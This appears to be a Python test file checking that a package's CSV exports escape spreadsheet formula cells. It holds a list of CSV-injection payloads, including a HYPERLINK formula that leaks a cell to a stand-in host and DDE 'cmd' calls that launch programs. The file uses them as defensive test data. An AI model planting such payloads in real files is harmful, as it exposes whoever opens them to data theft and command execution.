"""CSV exports cannot run formulas in a spreadsheet (issue 28, point 20; the OWASP rule).

A parameter name is text from a checkpoint: ``=HYPERLINK(...)`` or ``+cmd|...`` written
verbatim into a CSV cell runs when the file is opened in a spreadsheet. Every CSV writer of
the package (``diffract export``, ``%diffract export``, a panel's ``to_csv`` and download
link) writes such a cell with a leading ``'``; numbers stay numbers.
"""

from __future__ import annotations

import base64
import csv
import io

import numpy as np
import pytest

from diffract import Session
from diffract._vocab.csv_cells import FORMULA_STARTS, safe_cell
from diffract.cli import main

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _weights() -> dict[str, np.ndarray]:
    rng = np.random.default_rng(0)
    return {n: rng.standard_normal((6, 4)).astype(np.float32) for n in [*HOSTILE, "plain.weight"]}


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _check(rows: list[dict[str, str]], column: str) -> None:
    names = [r[column] for r in rows]
    assert sorted(names) == sorted(["'" + h for h in HOSTILE] + ["plain.weight"])
    for r in rows:  # no cell starts like a formula
        assert not any(str(v).startswith(FORMULA_STARTS) for v in r.values()), r


def test_safe_cell_follows_the_owasp_rule():
    for start in ("=", "+", "-", "@", "\t", "\r", "\uff1d"):
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("layer.0.weight") == "layer.0.weight"
    assert safe_cell(-1.5) == -1.5 and safe_cell(3) == 3 and safe_cell(None) is None
    assert safe_cell("") == ""


def test_cli_csv_export_neutralises_formula_cells(in_tmp):
    with Session() as s:
        s.models.add(_weights(), model_id="m")
        s.compute.apply("frob_norm", progress=False)
        norms = {sl.name: s.results.get("frob_norm", sl.uid) for sl in s.models.slices()}
    assert main(["export", "frob_norm", "--to", "out.csv"]) == 0
    rows = _rows((in_tmp / "out.csv").read_bytes().decode())
    _check(rows, "name")
    for r in rows:  # the numbers are written as numbers, equal to the stored values
        name = r["name"][1:] if r["name"].startswith("'") else r["name"]
        assert float(r["frob_norm"]) == pytest.approx(norms[name], rel=1e-9)


def test_magic_csv_export_neutralises_formula_cells(fresh_shell, in_tmp):
    s = fresh_shell.run_line_magic("diffract", "open")
    s.models.add(_weights(), model_id="m")
    s.compute.apply("frob_norm", progress=False)
    fresh_shell.run_line_magic("diffract", "export frob_norm --to out.csv")
    _check(_rows((in_tmp / "out.csv").read_bytes().decode()), "name")


def test_panel_csv_neutralises_formula_cells():
    pytest.importorskip("ipywidgets")
    from diffract.widgets import FieldPanel

    s = Session(profile="ram")
    s.models.add(_weights(), model_id="-m")  # a model id may start with "-" too
    s.compute.apply("frob_norm", progress=False)
    panel = FieldPanel(s, "frob_norm")
    text = panel.to_csv()
    rows = _rows(text)
    assert rows and not any(str(v).startswith(FORMULA_STARTS) for r in rows for v in r.values()), (
        text
    )
    assert {r["trace"] for r in rows} == {"'-m"}  # the model id, written as text
    link = panel.csv_link.value.split("base64,", 1)[1].split("'", 1)[0]
    assert base64.b64decode(link).decode() == text
    s.close()
